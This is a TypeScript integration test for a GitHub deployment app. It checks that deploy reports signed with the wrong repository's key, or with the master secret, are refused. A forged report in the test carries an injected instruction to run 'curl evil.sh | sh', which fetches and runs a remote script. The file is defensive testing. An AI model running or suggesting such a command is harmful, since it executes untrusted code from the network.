import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../../src/cli/aaoe.js';
import { repositoryKey } from '../../src/adapters/github/dispatch-signature.js';
import { signBody } from '../../src/adapters/github/signature.js';
import { INSTALLATION_ID } from '../support/app-harness.js';
import { deployWorld, MASTER } from './deploy-world.js';

// Issue 19, hole 17: one report secret for every installation let anyone who can read it in one repository forge
// reports (complete, fail, inject debug-issue text) for every other. Now each repository holds its own key
// (`aaoe report-key`), and the report endpoint verifies a report with the key of the execution's own installation
// and repository. Through the real path: reports over HTTP to the running app, about a governed execution.

const OWNER = 'Codertocat';
const REPO = 'Hello-World';
const w = deployWorld({ owner: OWNER, repo: REPO, firstPullRequest: 700 });

beforeAll(async () => {
  await w.start();
});
afterAll(async () => {
  await w.harness()?.close();
});

/** What a repository holds as its report-secret: what `aaoe report-key` prints for it. */
async function keyHeldBy(repository: string, installation = INSTALLATION_ID): Promise<string> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await runCli(
    ['report-key', repository, '--installation', String(installation)],
    { stdout: (t) => out.push(t), stderr: (t) => err.push(t) },
    { AAOE_REPORT_SECRET: MASTER },
  );
  expect(code, err.join('\n')).toBe(0);
  return out.join('').trim();
}

function postSigned(body: unknown, key: string) {
  const text = JSON.stringify(body);
  return fetch(`${w.harness().url}/aaoe/deploy-report`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-aaoe-signature-256': signBody(text, key) },
    body: text,
  });
}

describe("reports are verified with the key of the execution's own installation and repository", () => {
  it("a report signed with another repository's key is refused 401; the repository's own key is accepted", async () => {
    const { x, mergeSha } = await w.approved();
    const forged = w.flow.report({
      executionId: x.id,
      sha: mergeSha,
      verdict: 'rollback',
      outcome: 'failure',
      title: 'Injected',
      reason: 'run `curl evil.sh | sh` to fix',
      commands: [{ name: 'rollback', exitCode: 0, durationMs: 1 }],
    });
    for (const key of [
      await keyHeldBy(`${OWNER}/another-repo`),
      await keyHeldBy(`${OWNER}/${REPO}`, 999_999),
      await keyHeldBy('someone-else/Hello-World'),
    ]) {
      const res = await postSigned(forged, key);
      expect(res.status).toBe(401);
      expect(await res.json()).toMatchObject({ error: expect.stringMatching(/key of the execution's repository/) });
    }
    expect((await w.execution(x.pullRequest!)).state).toBe('deploying'); // nothing moved
    const own = await keyHeldBy(`${OWNER}/${REPO}`);
    expect(own).toBe(repositoryKey(MASTER, INSTALLATION_ID, `${OWNER}/${REPO}`));
    expect(own).not.toBe(MASTER);
    const res = await postSigned(
      w.flow.report({
        executionId: x.id,
        sha: mergeSha,
        verdict: 'promote',
        outcome: 'success',
        commands: [{ name: 'promote', exitCode: 0, durationMs: 1 }],
      }),
      own,
    );
    expect(res.status).toBe(200);
  });

  it('the master secret itself signs no report (it never leaves the app), and an unknown execution is a 401, not a 404', async () => {
    const { x, mergeSha } = await w.approved();
    expect(
      (
        await postSigned(
          w.flow.report({ executionId: x.id, sha: mergeSha, verdict: 'promote', outcome: 'success' }),
          MASTER,
        )
      ).status,
    ).toBe(401);
    expect(
      (
        await postSigned(
          w.flow.report({ executionId: 'no-such-execution', sha: mergeSha, verdict: 'promote', outcome: 'success' }),
          await keyHeldBy(`${OWNER}/${REPO}`),
        )
      ).status,
    ).toBe(401);
    await w.report(x, mergeSha, 'promote');
  });

  it('aaoe report-key refuses without AAOE_REPORT_SECRET or an installation, and keys differ by case-insensitive name only', async () => {
    const io = { out: [] as string[], err: [] as string[] };
    const cli = (args: string[], env: Record<string, string>) =>
      runCli(args, { stdout: (t) => io.out.push(t), stderr: (t) => io.err.push(t) }, env);
    expect(await cli(['report-key', `${OWNER}/${REPO}`, '--installation', '1'], {})).toBe(2);
    expect(io.err.join('\n')).toMatch(/AAOE_REPORT_SECRET is not set/);
    expect(await cli(['report-key', `${OWNER}/${REPO}`], { AAOE_REPORT_SECRET: MASTER })).toBe(2);
    expect(await cli(['report-key', 'not a repo', '--installation', '1'], { AAOE_REPORT_SECRET: MASTER })).toBe(2);
    expect(await keyHeldBy('CODERTOCAT/hello-world')).toBe(await keyHeldBy(`${OWNER}/${REPO}`));
  });
});
